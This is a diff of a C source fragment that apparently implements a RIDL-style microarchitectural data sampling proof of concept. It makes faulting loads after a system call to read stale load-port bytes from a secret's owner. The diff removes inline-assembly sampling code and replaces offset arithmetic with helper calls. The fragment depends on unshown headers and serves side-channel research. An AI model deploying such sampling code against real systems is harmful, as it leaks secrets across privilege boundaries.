@@ -1,27 +1,17 @@
 /*
  * Microarchitectural load port data sampling (van Schaik et al., "RIDL", 2019; Intel, "Microarchi-
  * tectural Data Sampling"): a faulting load of more than eight bytes receives what a load port
- * delivered last. Shorter loads in between leave the upper half of a port as it was, so the upper
- * half of the last long load survives a system call. The secret's owner compares 16 bytes at a time
- * from a place that the request names; here it is such that the upper half ends with the wanted byte.
+ * delivered last. The secret's owner compares 16 bytes at a time from a place that the request names.
  */
 #include "buffers.h"
 #include "fault.h"
-
-enum { HALF_PORT = 8 };
-
-/* A load of 16 bytes at %[address], of which the upper eight count. */
-#define SAMPLE_PORT                             \
-	"movdqu (%[address]), %%xmm0\n\t"       \
-	"psrldq $8, %%xmm0\n\t"                 \
-	"movq %%xmm0, %%rax\n\t" SEND_IF_KNOWN
 
 static const uint8_t *denied;
 
 /* A system call, then loads that fault. */
 static void call_and_sample(long number, long first, const void *second, long third)
 {
-	register const uint8_t *address_register __asm__("r9") = denied + place / LINE_BYTES * LINE_BYTES;
+	register const uint8_t *address_register __asm__("r9") = denied + line_of(place);
 	register const uint8_t *probe_register __asm__("r8") = probe;
 	register uint64_t known_register __asm__("r10") = known;
 
@@ -41,7 +31,7 @@ static void call_and_sample(long number, long first, const void *second, long th
 static int sample(int index)
 {
 	aim(index);
-	use_secret_by(call_and_sample, index - KNOWN_BEFORE - HALF_PORT);
+	use_secret_by(call_and_sample, place_of_comparison(index));
 	return reload_probe(probe);
 }
 
